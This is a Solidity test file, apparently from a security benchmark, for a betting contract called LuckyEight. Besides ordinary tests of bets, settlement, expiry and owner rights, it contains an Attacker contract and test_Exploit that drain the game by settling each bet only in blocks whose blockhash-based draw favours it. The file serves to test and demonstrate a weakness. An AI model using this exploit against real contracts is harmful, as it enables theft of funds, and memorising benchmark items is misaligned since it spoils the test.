// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./LuckyEight.sol";

// assay-canary-a8331ac3-55e0-4505-8d45-5af373a76287

interface Vm {
    function deal(address who, uint256 amount) external;
    function roll(uint256 number) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Has a bank of its own, and takes no ether.
contract Deaf {
    LuckyEight public game = new LuckyEight(1 ether);

    function withdraw() external {
        game.withdraw(1 ether);
    }
}

/// Bets on every number but one and settles each bet in a block that suits it.
contract Attacker {
    LuckyEight internal game;
    uint256[] internal waiting;

    constructor(LuckyEight game_) {
        game = game_;
    }

    receive() external payable {}

    function enter() external {
        for (uint8 i = 0; i < 7; ++i) {
            waiting.push(game.bet{value: game.maxStake()}(i));
        }
    }

    /// In a block that is not the right one for a bet, nothing happens to it.
    function look() external {
        for (uint256 i = 0; i < waiting.length; ++i) {
            uint256 id = waiting[i];
            LuckyEight.Bet memory b = game.betOf(id);
            if (b.settled) continue;
            uint256 drawn = uint256(keccak256(abi.encodePacked(blockhash(block.number - 1), id))) % 8;
            if (drawn == b.number) game.settle(id);
        }
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    LuckyEight private game;
    Attacker private mallory;
    address private constant TOM = address(0x70E);

    receive() external payable {}

    function setUp() public {
        vm.roll(1000);
        vm.deal(address(this), 22 ether);
        game = new LuckyEight{value: 22 ether}(0.5 ether);
        mallory = new Attacker(game);
        vm.deal(address(mallory), 3.5 ether);
        vm.deal(TOM, 8 ether);
    }

    function test_Regular() public {
        vm.prank(TOM);
        (bool ok, ) = address(game).call{value: 1 ether}(abi.encodeCall(game.bet, (0)));
        require(!ok, "stake too large");
        // one bet on each number
        for (uint8 i = 0; i < 8; ++i) {
            vm.prank(TOM);
            require(game.bet{value: 0.25 ether}(i) == i, "ids");
        }
        require(TOM.balance == 6 ether && game.reserved() == 14 ether, "stakes");
        (ok, ) = address(game).call(abi.encodeCall(game.withdraw, (11 ether)));
        require(!ok, "bets stay covered");

        vm.roll(1003);
        vm.prank(TOM);
        (ok, ) = address(game).call(abi.encodeCall(game.settle, (0)));
        require(!ok, "too early");
        vm.roll(1006);
        (ok, ) = address(game).call(abi.encodeCall(game.settle, (0)));
        require(!ok, "not theirs");
        uint256 won;
        for (uint256 i = 0; i < 7; ++i) {
            vm.prank(TOM);
            uint256 paid = game.settle(i);
            require(paid == 0 || paid == 1.75 ether, "seven times the stake or nothing");
            won += paid;
        }
        require(TOM.balance == 6 ether + won && game.reserved() == 1.75 ether, "settled");
        vm.prank(TOM);
        (ok, ) = address(game).call(abi.encodeCall(game.settle, (1)));
        require(!ok, "settled twice");

        vm.roll(1201);
        vm.prank(TOM);
        (ok, ) = address(game).call(abi.encodeCall(game.settle, (7)));
        require(!ok, "expired");
        game.sweep(7);
        require(game.reserved() == 0, "nothing reserved");
        game.withdraw(24 ether - won);
        require(address(game).balance == 0, "bank withdrawn");

        game.setMaxStake(1 ether);
        require(game.maxStake() == 1 ether, "limit");
        (ok, ) = address(game).call{value: 1 ether}("");
        require(ok && address(game).balance == 1 ether, "bank filled");
        game.transferOwnership(TOM);
        vm.prank(TOM);
        game.renounceOwnership();
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The owner's bank and limit, and numbers and stakes that there are.
    function test_RefusesBets() public {
        refuses(TOM, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TOM));
        game.withdraw(1);
        refuses(TOM, abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TOM));
        game.setMaxStake(1);
        bytes memory why = abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, TOM);
        refuses(TOM, why);
        game.transferOwnership(TOM);
        refuses(TOM, why);
        game.renounceOwnership();
        refuses(TOM, abi.encodeWithSelector(LuckyEight.BadNumber.selector, 8));
        game.bet{value: 0.1 ether}(8);
        refuses(TOM, abi.encodeWithSelector(LuckyEight.BadStake.selector, 0));
        game.bet(0);
        game.setMaxStake(8 ether);
        refuses(TOM, LuckyEight.BankTooSmall.selector);
        game.bet{value: 5 ether}(0);
        vm.prank(TOM);
        uint256 id = game.bet{value: 0.1 ether}(0);
        vm.expectRevert(abi.encodeWithSelector(LuckyEight.TooEarly.selector, 1200));
        game.sweep(id);
        vm.roll(1201);
        game.sweep(id);
        vm.expectRevert(abi.encodeWithSelector(LuckyEight.Settled.selector, id));
        game.sweep(id);
    }

    /// Ether goes to who takes it.
    function test_RefusesFailedPayments() public {
        Deaf deaf = new Deaf();
        vm.deal(address(deaf.game()), 1 ether);
        vm.expectRevert("not sent");
        deaf.withdraw();
    }

    function exploit() public {
        mallory.enter();
        uint256 start = block.number;
        for (uint256 i = 4; i <= 120; ++i) {
            vm.roll(start + i);
            mallory.look();
        }
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 20 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(game);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}
